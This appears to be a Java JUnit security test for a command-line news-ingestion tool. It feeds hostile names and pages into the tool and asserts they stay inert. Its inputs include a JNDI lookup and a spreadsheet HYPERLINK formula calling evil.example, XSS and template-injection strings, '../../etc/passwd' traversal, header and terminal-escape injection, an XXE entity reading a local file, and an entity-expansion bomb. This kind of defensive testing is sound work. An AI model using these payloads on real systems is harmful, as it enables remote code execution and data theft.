package org.firmament.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.firmament.export.ExportFormat;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Input that wants to be more than input; what the fuzz tests find comes here as well. */
class HostileTest {
  private static final List<String> NAMES =
      List.of(
          "=HYPERLINK(\"http://evil.example\")",
          "+1-1",
          "@SUM(A1)",
          "<script>alert(1)</script>",
          "\"; DROP ALL #",
          "} UNION { ?s ?p ?o",
          "${jndi:ldap://evil.example/a}",
          "\u202egnp.exe",
          "\u001b]0;title\u0007",
          "a\r\nSet-Cookie: b",
          "../../etc/passwd",
          "%2e%2e%2f",
          "<x> . <y> <z> <w>",
          "name:* AND text:[a TO z]",
          "]]>&amp;&lt;",
          "{{7*7}}");

  @TempDir Path folder;
  private Session session;

  @BeforeEach
  void start() throws IOException {
    session = Session.in(folder);
    Files.createDirectory(folder.resolve("news"));
  }

  private void write(String file, String text) throws IOException {
    Files.writeString(folder.resolve("news").resolve(file), text);
  }

  private void ingest(int code) {
    assertEquals(code, session.run("ingest", "news"), () -> session.out() + session.err());
    assertFalse(session.err().contains("\tat "), session.err());
    isNeutral();
  }

  /** Nothing that a terminal would obey, and no line that somebody else wrote. */
  private void isNeutral() {
    String printed = session.out() + session.err();
    assertTrue(printed.chars().noneMatch(c -> c < ' ' && c != '\n' && c != '\t'), printed);
    assertFalse(printed.contains("\u202e"), printed);
    assertFalse(printed.lines().anyMatch(line -> line.startsWith("Set-Cookie")), printed);
  }

  @Test
  void names_that_are_code_elsewhere_are_names_here() throws IOException {
    StringBuilder lines = new StringBuilder();
    for (String name : NAMES) {
      String json = new com.fasterxml.jackson.databind.node.TextNode(name).toString();
      lines.append("{\"id\": " + json + ", \"lang\": \"de\", \"title\": " + json);
      lines.append(", \"publisher\": " + json + ", \"url\": \"javascript:alert(1)\", \"text\": ");
      String text = "Die Firma " + name + " AG übernimmt die Norvik GmbH. Die Norvik GmbH wächst.";
      lines.append(new com.fasterxml.jackson.databind.node.TextNode(text)).append("}\n");
    }
    write("names.jsonl", lines.toString());
    ingest(0);
    assertEquals(0, session.run("check"), session.out());
    assertEquals(0, session.run("stats", "--documents"));
    assertEquals(NAMES.size(), session.out().lines().count());
    isNeutral();
    for (String name : NAMES.subList(7, 11)) {
      session.run("show", name);
      isNeutral();
    }
    assertEquals(0, session.run("search", "Firma", "--limit", "50"), session.err());
    isNeutral();
    for (ExportFormat format : ExportFormat.values()) {
      String file = "out." + format.ending();
      assertEquals(0, session.run("export", "-f", format.label(), "-o", file), session.err());
    }
    assertEquals(0, session.run("forget", "../../etc/passwd"), session.err());
    assertEquals(0, session.run("forget", "} UNION { ?s ?p ?o"), session.err());
    assertEquals(0, session.run("check"), session.out());
    try (Stream<Path> files = Files.list(folder.getParent())) {
      assertFalse(files.anyMatch(file -> file.endsWith("passwd")));
    }
  }

  @Test
  void what_nests_without_end_is_told() throws IOException {
    write("deep.jsonl", "{\"id\": \"a\", \"text\": " + "[".repeat(200_000) + "\n");
    write("deeper.jsonl", "{\"a\":".repeat(100_000) + "\n");
    ingest(2);
    assertTrue(session.err().contains("broken-line"), session.err());
  }

  @Test
  void a_page_that_nests_without_end_is_read_or_told() throws IOException {
    write("deep.html", "<div><b>".repeat(5_000) + "Die Norvik AG übernimmt die Ferrax GmbH.");
    int code = session.run("ingest", "news");
    assertTrue(code == 0 || code == 2, session.out() + session.err());
    assertFalse(session.err().contains("\tat "), session.err());
  }

  @Test
  void entities_of_a_page_neither_grow_nor_fetch() throws IOException {
    String secret = "Geheimnis der Firma";
    Files.writeString(folder.resolve("secret"), secret);
    write(
        "xxe.html",
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file://"
            + folder.resolve("secret")
            + "\"><!ENTITY b \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY c \"&d;&d;&d;&d;&d;&d;&d;\">]>"
            + "<html lang=de><article><p>Die Norvik AG übernimmt die Ferrax GmbH. &x; &b;</p>"
            + "<p>Das teilten beide Unternehmen am Montag in Bonn mit.</p></article></html>");
    ingest(0);
    assertEquals(0, session.run("export", "-f", "nquads"), session.err());
    assertFalse(session.out().contains(secret));
    assertTrue(session.out().length() < 100_000);
  }
}
